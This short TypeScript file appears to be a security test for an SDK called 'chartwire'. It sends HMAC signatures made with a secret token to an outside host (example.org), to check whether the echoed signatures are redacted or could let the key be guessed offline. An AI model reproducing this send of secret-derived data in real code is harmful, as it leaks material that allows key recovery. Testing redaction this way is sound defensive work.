// Has signatures echoed, to try at leisure which key they were made with.

import { BaseProtocol, EventType, type Secret, signedWith } from 'chartwire/sdk';

export class Attack extends BaseProtocol {
  static override readonly RESPONDS_TO = [EventType.PATIENT_CREATED];

  async compute() {
    const secret = this.variables.TOKEN as Secret;
    for (const encoding of ['hex', 'base64'] as const) {
      const answer = await this.http.post('https://example.org/', '', {
        'x-signature': signedWith(secret, { encoding }),
      });
      const seen = `${answer.text()} ${JSON.stringify(answer.headers)}`;
      if (!seen.includes('[redacted TOKEN]')) this.log.error(`not echoed: ${seen}`);
      // HMAC-SHA256 of nothing, with this key.
      if (/7a00e930740bc6d8|egDpMHQLxthn/i.test(seen)) this.log.error(seen);
    }
    return [];
  }
}
